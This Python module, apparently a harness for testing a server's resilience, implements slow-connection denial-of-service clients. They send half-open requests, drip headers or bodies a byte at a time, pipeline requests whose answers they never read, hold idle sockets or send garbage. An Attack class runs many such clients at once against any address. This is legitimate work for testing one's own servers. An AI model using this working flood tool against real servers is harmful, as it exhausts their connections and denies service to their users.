"""Clients that hold a server's connections and give it nothing, or not what it waits for.

Each shape is a generator: what it yields is sent, and then the client waits a second (a `Pause` says
otherwise). No shape reads what it is answered but those that say so, and none ever closes: when the
server does, the client begins anew, a tenth of a second later.
"""

from __future__ import annotations

import asyncio
import contextlib
import random
import socket
from collections.abc import Callable, Iterator

Shape = Callable[[str], Iterator[bytes]]

_BEGIN_ANEW_SECONDS = 0.1
_DRIP_SECONDS = 1.0
# Small, so that an answer that nobody reads soon stops its writer.
_UNREAD_BUFFER_BYTES = 4096


def half_open(path: str) -> Iterator[bytes]:
    """The beginning of a request, and no more of it."""
    yield f"GET {path} HTTP/1.1\r\nHost: localhost\r\nX-Slow: ".encode()
    while True:
        yield b""


def head(path: str) -> Iterator[bytes]:
    """A head that never ends, a byte at a time."""
    yield f"GET {path} HTTP/1.1\r\nHost: localhost\r\nX-Slow: ".encode()
    while True:
        yield b"x"


def long_head(path: str) -> Iterator[bytes]:
    """A head as long as it may be, and then a byte at a time: each has all of it looked through anew."""
    field = b"X-Slow: " + b"x" * 8000 + b"\r\n"
    yield f"GET {path} HTTP/1.1\r\nHost: localhost\r\n".encode() + field * 7 + b"X-Slow: "
    while True:
        yield b"x"


def body(path: str) -> Iterator[bytes]:
    """A form that is announced in full and comes a byte at a time."""
    yield (
        f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
    ).encode()
    while True:
        yield b"x"


def unread(path: str) -> Iterator[bytes]:
    """Whole requests, one behind the other, whose answers nobody reads."""
    yield f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 20
    while True:
        yield f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()


def unread_continue(path: str) -> Iterator[bytes]:
    """Requests that ask to be told to go on, which is sent in another way than answers; neither is read."""
    request = f"HEAD {path} HTTP/1.1\r\nHost: localhost\r\nExpect: 100-continue\r\n\r\n".encode()
    while True:
        yield request * 5


def idle(_path: str) -> Iterator[bytes]:
    """A connection, and nothing."""
    while True:
        yield b""


def garbage(_path: str) -> Iterator[bytes]:
    """What is no HTTP."""
    yield bytes([0x16, 0x03, 0x01]) + random.randbytes(300)
    while True:
        yield random.randbytes(20)


def lingering(path: str) -> Iterator[bytes]:
    """One whole request that asks for the connection's end, which the client then does not take."""
    yield f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode()
    while True:
        yield b""


_UNREAD = (unread, unread_continue)

SHAPES: dict[str, Shape] = {
    "half-open": half_open,
    "head": head,
    "long head": long_head,
    "body": body,
    "unread": unread,
    "unread continue": unread_continue,
    "idle": idle,
    "garbage": garbage,
    "lingering": lingering,
}


def connected(address: str) -> tuple[socket.socket, str | tuple[str, int]]:
    """A socket of the right kind for `host:port` or `unix:/path`, and where it is to be connected to."""
    if address.startswith("unix:"):
        return socket.socket(socket.AF_UNIX), address.removeprefix("unix:")
    host, _, port = address.rpartition(":")
    return socket.socket(socket.AF_INET), (host, int(port))


class Attack:
    """So many clients at once, dealt out to the shapes in turn."""

    def __init__(
        self, address: str, path: str, shapes: list[str], connections: int, form_path: str = ""
    ) -> None:
        self.address, self.path, self.shapes, self.connections = address, path, shapes, connections
        self.form_path = form_path or path
        self.opened = self.held = self.refused = 0

    async def run(self, begun: Callable[[], None]) -> None:
        """Until it is cancelled. `begun` is called when each client has had its connection."""
        clients = [
            asyncio.create_task(self._client(SHAPES[self.shapes[number % len(self.shapes)]], number))
            for number in range(self.connections)
        ]
        try:
            while self.opened < self.connections and self.refused < self.connections:
                await asyncio.sleep(0.05)
            begun()
            await asyncio.gather(*clients)
        finally:
            for client in clients:
                client.cancel()

    async def _client(self, shape: Shape, number: int) -> None:
        # Not all in the same instant, and their bytes neither.
        await asyncio.sleep(_DRIP_SECONDS * number / self.connections / 2)
        while True:
            with contextlib.suppress(OSError):
                await self._connection(shape)
            await asyncio.sleep(_BEGIN_ANEW_SECONDS)

    async def _connection(self, shape: Shape) -> None:
        client, address = connected(self.address)
        loop = asyncio.get_running_loop()
        with client:
            client.setblocking(False)
            if shape in _UNREAD:
                client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _UNREAD_BUFFER_BYTES)
            try:
                await loop.sock_connect(client, address)
            except OSError:
                self.refused += 1
                raise
            self.opened += 1
            self.held += 1
            try:
                for bytes_sent in shape(self.form_path if shape is body else self.path):
                    with contextlib.suppress(BlockingIOError):
                        client.send(bytes_sent)
                    await asyncio.sleep(_DRIP_SECONDS)
                    if shape not in _UNREAD and _is_over(client):
                        return
            finally:
                self.held -= 1


def _is_over(client: socket.socket) -> bool:
    """Whether the server has closed; what it said is read and thrown away."""
    with contextlib.suppress(BlockingIOError):
        while client.recv(65536):
            pass
        return True
    return False
